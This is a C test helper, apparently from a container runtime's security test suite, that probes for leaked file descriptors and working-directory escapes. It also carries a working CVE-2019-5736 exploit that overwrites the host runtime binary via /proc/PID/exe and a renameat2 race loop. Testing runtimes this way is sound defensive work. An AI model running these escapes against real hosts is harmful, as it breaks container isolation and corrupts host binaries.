/*
 * escape-probe: the attacker side of the security tests (tests/Csrun.IntegrationTests/Tests/
 * SecurityTests.cs). Built static by the Makefile (make probe) and copied into test rootfs, or
 * run on the host for the racer. Every mode prints plain lines the tests parse.
 *
 *   escape-probe fds
 *       "fds 0 1 2 ..." (the fds this process has, without the one used to list them), then
 *       "fd N -> TARGET" for each.
 *   escape-probe cwd MARKER
 *       "cwd PATH" (getcwd, or "cwd errno N"), then "escaped" when the working directory is
 *       outside the process's root (getcwd fails or says "(unreachable)") or MARKER (an
 *       absolute host path that does not exist in the rootfs) is reachable from it, by ".."
 *       or, from a host procfs, through 1/root; else "inside".
 *   escape-probe exe-attack STOPFILE DEV INO [PHASE2_MS]
 *       CVE-2019-5736. Until STOPFILE exists, two processes look for runtime processes: one
 *       loops over /proc/[0-9]+/exe, the other spins on the pid the next exec will get
 *       (/proc/sys/kernel/ns_last_pid + 1). Every exe it can open that is not busybox or
 *       itself is kept as an O_PATH fd ("exe pid=P target=T hostbin=0|1", hostbin when its
 *       dev:ino is DEV:INO, the host's runtime binary); an exe it may not open is counted
 *       ("denied pid=P errno=E"). Then, for PHASE2_MS (default 3000), each kept fd is reopened
 *       for writing through /proc/self/fd (retrying while the file is busy, ETXTBSY) and the
 *       first bytes are overwritten with "PWNED": "WROTE ..." when that worked, else
 *       "write-open-failed ..." / "write-failed ...". Ends with "summary seen=N denied=N
 *       hostbin=N wrote=N" and "done".
 *   escape-probe swap A B STOPFILE
 *       Exchanges A and B (renameat2 RENAME_EXCHANGE) in a tight loop until STOPFILE exists;
 *       prints "swaps N". The racer of the mount-target race test (runs on the host).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static void out(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void out(const char *fmt, ...)
{
	/* One write(2) per line: several processes share stdout. */
	char line[1024];
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(line, sizeof line - 1, fmt, ap);
	va_end(ap);
	if (n < 0) return;
	if (n > (int)sizeof line - 2) n = sizeof line - 2;
	line[n++] = '\n';
	ssize_t w = write(1, line, n);
	(void)w;
}

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static int exists(const char *path)
{
	struct stat st;
	return stat(path, &st) == 0;
}

/* ------------------------------------------------------------------ fds */

static int mode_fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d) { out("fds errno %d", errno); return 1; }
	int self = dirfd(d);
	int fds[1024], n = 0;
	struct dirent *e;
	while ((e = readdir(d)) != NULL && n < 1024) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
		int fd = atoi(e->d_name);
		if (fd != self) fds[n++] = fd;
	}
	closedir(d);
	char line[4096];
	int len = snprintf(line, sizeof line, "fds");
	for (int i = 0; i < n && len < (int)sizeof line - 16; i++)
		len += snprintf(line + len, sizeof line - len, " %d", fds[i]);
	out("%s", line);
	for (int i = 0; i < n; i++) {
		char p[64], t[512];
		snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
		ssize_t l = readlink(p, t, sizeof t - 1);
		if (l < 0) l = 0;
		t[l] = 0;
		out("fd %d -> %s", fds[i], t);
	}
	return 0;
}

/* ------------------------------------------------------------------ cwd */

static int mode_cwd(const char *marker)
{
	char buf[4096];
	int unreachable = 0;
	/* The kernel's own verdict: a working directory outside the process's root has no path
	 * from that root (getcwd fails with ENOENT, or says "(unreachable)"). */
	if (getcwd(buf, sizeof buf)) {
		out("cwd %s", buf);
		unreachable = buf[0] != '/';
	} else {
		out("cwd errno %d", errno);
		unreachable = errno == ENOENT;
	}
	const char *rel = marker[0] == '/' ? marker + 1 : marker;
	/* Walk up far more levels than any path has: ".." stops at the root the process is in. */
	char up[8192] = "";
	for (int i = 0; i < 64; i++) strcat(up, "../");
	strncat(up, rel, sizeof up - strlen(up) - 1);
	/* A host procfs as working directory: host pid 1's root is one magic link away. */
	char viaproc[4096];
	snprintf(viaproc, sizeof viaproc, "1/root/%s", rel);
	int reach = exists(up) || exists(viaproc);
	if (unreachable) out("cwd-outside-root");
	out(reach || unreachable ? "escaped" : "inside");
	return 0;
}

/* ------------------------------------------------------------------ exe-attack */

#define MAX_KEPT 64

struct kept { int fd; int pid; dev_t dev; ino_t ino; char target[256]; };

static struct stat self_st, busybox_st;
static dev_t host_dev;
static ino_t host_ino;

static int same(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* Tries /proc/PID/exe; keeps a new foreign executable. Returns 1 when something was kept. */
static int consider(int pid, struct kept *kept, int *nkept, int *denied, int *last_denied)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if ((errno == EACCES || errno == EPERM) && *last_denied != pid) {
			(*denied)++;
			*last_denied = pid;
			out("denied pid=%d errno=%d", pid, errno);
		}
		return 0;
	}
	struct stat st;
	if (fstat(fd, &st) < 0 || same(&st, &self_st) || same(&st, &busybox_st)) { close(fd); return 0; }
	for (int i = 0; i < *nkept; i++)
		if (kept[i].dev == st.st_dev && kept[i].ino == st.st_ino) { close(fd); return 0; }
	if (*nkept >= MAX_KEPT) { close(fd); return 0; }
	struct kept *k = &kept[(*nkept)++];
	k->fd = fd;
	k->pid = pid;
	k->dev = st.st_dev;
	k->ino = st.st_ino;
	ssize_t l = readlink(path, k->target, sizeof k->target - 1);
	if (l < 0) l = 0;
	k->target[l] = 0;
	int hostbin = st.st_dev == host_dev && st.st_ino == host_ino;
	/* The classic first try: the binary is busy while it runs (ETXTBSY), or refused. */
	int w = open(path, O_WRONLY | O_CLOEXEC);
	int werr = w < 0 ? errno : 0;
	if (w >= 0) close(w);
	out("exe pid=%d target=%s hostbin=%d direct-write-open=%s errno=%d", pid, k->target, hostbin,
	    w >= 0 ? "ok" : "failed", werr);
	return 1;
}

static void report_phase2(struct kept *kept, int nkept, long phase2_ms, int seen, int denied)
{
	int hostbin = 0, wrote = 0;
	for (int i = 0; i < nkept; i++) {
		struct kept *k = &kept[i];
		if (k->dev == host_dev && k->ino == host_ino) hostbin++;
		char self_path[64];
		snprintf(self_path, sizeof self_path, "/proc/self/fd/%d", k->fd);
		long deadline = now_ms() + phase2_ms;
		int w = -1, err = 0;
		do {
			w = open(self_path, O_WRONLY | O_CLOEXEC);
			err = errno;
			if (w >= 0 || err != ETXTBSY) break;
			usleep(10 * 1000);
		} while (now_ms() < deadline);
		if (w < 0) {
			out("write-open-failed pid=%d target=%s errno=%d", k->pid, k->target, err);
			continue;
		}
		ssize_t n = pwrite(w, "PWNED", 5, 0);
		if (n == 5) {
			wrote++;
			out("WROTE pid=%d target=%s hostbin=%d", k->pid, k->target,
			    k->dev == host_dev && k->ino == host_ino);
		} else {
			out("write-failed pid=%d target=%s errno=%d", k->pid, k->target, n < 0 ? errno : 0);
		}
		close(w);
	}
	out("summary seen=%d denied=%d hostbin=%d wrote=%d", seen, denied, hostbin, wrote);
}

/* One attacker process: scans /proc (watch == 0) or spins on the next pid (watch == 1). */
static int attacker(int watch, const char *stopfile, long phase2_ms)
{
	struct kept kept[MAX_KEPT];
	int nkept = 0, denied = 0, seen = 0, last_denied = -1;
	long iterations = 0;
	int next = 0;
	while (1) {
		if ((iterations++ & 255) == 0 && exists(stopfile)) break;
		if (watch) {
			if ((iterations & 63) == 1) {
				int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
				char b[32] = "";
				if (fd >= 0) {
					ssize_t l = read(fd, b, sizeof b - 1);
					if (l > 0) b[l] = 0;
					close(fd);
				}
				next = atoi(b) + 1;
			}
			for (int p = next; p < next + 3; p++)
				seen += consider(p, kept, &nkept, &denied, &last_denied);
		} else {
			DIR *d = opendir("/proc");
			if (!d) continue;
			struct dirent *e;
			while ((e = readdir(d)) != NULL) {
				if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
				int pid = atoi(e->d_name);
				if (pid == getpid()) continue;
				seen += consider(pid, kept, &nkept, &denied, &last_denied);
			}
			closedir(d);
		}
	}
	out("%s stopped after %ld iterations", watch ? "watcher" : "scanner", iterations);
	report_phase2(kept, nkept, phase2_ms, seen, denied);
	return 0;
}

static int mode_exe_attack(const char *stopfile, const char *dev, const char *ino, const char *phase2)
{
	host_dev = (dev_t)strtoull(dev, NULL, 0);
	host_ino = (ino_t)strtoull(ino, NULL, 0);
	long phase2_ms = phase2 ? strtol(phase2, NULL, 0) : 3000;
	if (stat("/proc/self/exe", &self_st) < 0) { out("stat self errno %d", errno); return 1; }
	if (stat("/bin/busybox", &busybox_st) < 0) memset(&busybox_st, 0, sizeof busybox_st);
	out("attacker pid=%d ready", getpid());
	pid_t child = fork();
	if (child < 0) { out("fork errno %d", errno); return 1; }
	if (child == 0) _exit(attacker(1, stopfile, phase2_ms));
	attacker(0, stopfile, phase2_ms);
	int status;
	waitpid(child, &status, 0);
	out("done");
	return 0;
}

/* ------------------------------------------------------------------ swap */

static int mode_swap(const char *a, const char *b, const char *stopfile)
{
	long n = 0;
	while (1) {
		if ((n & 1023) == 0 && exists(stopfile)) break;
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
			out("renameat2 errno %d", errno);
			return 1;
		}
		n++;
	}
	out("swaps %ld", n);
	return 0;
}

int main(int argc, char **argv)
{
	signal(SIGPIPE, SIG_IGN);
	if (argc >= 2 && strcmp(argv[1], "fds") == 0) return mode_fds();
	if (argc == 3 && strcmp(argv[1], "cwd") == 0) return mode_cwd(argv[2]);
	if ((argc == 5 || argc == 6) && strcmp(argv[1], "exe-attack") == 0)
		return mode_exe_attack(argv[2], argv[3], argv[4], argc == 6 ? argv[5] : NULL);
	if (argc == 5 && strcmp(argv[1], "swap") == 0) return mode_swap(argv[2], argv[3], argv[4]);
	fprintf(stderr, "usage: escape-probe fds | cwd MARKER | exe-attack STOPFILE DEV INO [PHASE2_MS] | swap A B STOPFILE\n");
	return 2;
}
